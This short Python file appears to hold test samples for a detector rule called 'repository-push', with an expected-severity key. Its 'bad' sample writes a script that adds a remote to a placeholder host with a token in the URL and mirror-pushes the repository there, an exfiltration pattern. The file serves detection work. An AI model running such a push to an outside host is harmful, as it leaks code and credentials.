"""Samples of `repository-push`."""

from __future__ import annotations

from pathlib import Path

EXPECT = {"severity": "medium", "line": 3}


def bad(folder: Path) -> str:
    (folder / "sync.sh").write_text(
        "#!/bin/sh\ngit remote add b https://x:${T}@git.invalid/m/x\ngit push --mirror b\n"
    )
    return "sync.sh"


def good(folder: Path) -> None:
    (folder / "release.sh").write_text("#!/bin/sh\ngit tag v1\ngit push origin main --tags\n")
    (folder / "pages.sh").write_text(
        "#!/bin/sh\ngit init -q\ngit add -A\ngit push -f git@git.invalid:o/r.git main:gh-pages\n"
    )
